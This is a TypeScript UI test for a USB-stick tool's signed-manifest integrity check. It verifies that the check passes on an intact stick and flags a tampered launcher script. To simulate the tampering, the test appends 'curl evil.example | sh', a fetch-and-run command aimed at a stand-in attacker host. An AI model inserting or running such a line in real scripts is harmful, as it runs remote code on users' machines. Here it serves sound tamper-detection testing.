// The stick screen's integrity check on a stick with a real signed MANIFEST: clean
// after the ceremony and after exporting the key files (they go under vault/), then
// a modified launcher is named.
import { appendFileSync, mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { render } from 'ink-testing-library';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { formatManifest } from '../../src/core/stick-manifest.js';
import { stickAt } from '../../src/edges/stick-locator.js';
import { manifestEntriesOf } from '../../src/edges/stick-tree.js';
import { generateReleaseKey, readReleaseSecretKey, signManifest } from '../../src/service/manifest-signature.js';
import { App } from '../../src/ui/App.js';
import { initStick, PASSPHRASE, temporaryFolder } from '../helpers/caliop.js';
import { press, type, waitForFrame } from './frames.js';

const scratch = temporaryFolder('ui-integrity');
const stick = join(scratch.path, 'CALIOP');

beforeAll(async () => {
  process.env.CALIOP_UNSAFE_TEST_KDF = '1';
  mkdirSync(join(stick, 'vault'), { recursive: true });
  writeFileSync(join(stick, 'caliop.sh'), '#!/bin/sh\nexec "$(dirname "$0")/caliop-linux-x64" --stick "$(dirname "$0")" "$@"\n');
  writeFileSync(join(stick, 'LISEZ-MOI-README.txt'), 'Bonjour / Hello\n');
  const release = await generateReleaseKey({ name: 'Caliop UI test release' });
  writeFileSync(join(stick, 'config.json'), `${JSON.stringify({ releaseCert: release.certArmored }, null, 2)}\n`);
  const manifest = new TextEncoder().encode(formatManifest(await manifestEntriesOf(stick)));
  writeFileSync(join(stick, 'MANIFEST'), manifest);
  writeFileSync(join(stick, 'MANIFEST.sig'), await signManifest(manifest, await readReleaseSecretKey(release.secretKeyArmored)));
  await initStick(stick, 'Ana', 'ana@example.org');
});

afterAll(() => scratch.remove());

describe('stick screen: integrity check', { timeout: 300_000 }, () => {
  it('says the stick is as made, also after an export; names a modified file', async () => {
    const app = render(<App stick={stickAt(stick, '--stick')} onExit={() => undefined} />);
    await waitForFrame(app, /Open your stick/);
    await type(app, PASSPHRASE);
    await waitForFrame(app, /Inbox/);
    await press(app, 'k');
    await waitForFrame(app, /Fingerprint: /);
    await press(app, 'e');
    await waitForFrame(app, /Written on the stick/);
    await press(app, 'v');
    // The tsc build has no compiled-in release fingerprint: the screen says the check is only against the stick itself.
    await waitForFrame(app, /The stick agrees with itself, but nothing outside it vouches for it/);
    appendFileSync(join(stick, 'caliop.sh'), 'curl evil.example | sh\n');
    await press(app, 'v');
    const modified = await waitForFrame(app, /The stick was modified/);
    expect(modified).toContain('1 file(s)');
    expect(modified).toContain('caliop.sh');
    app.unmount();
  });
});
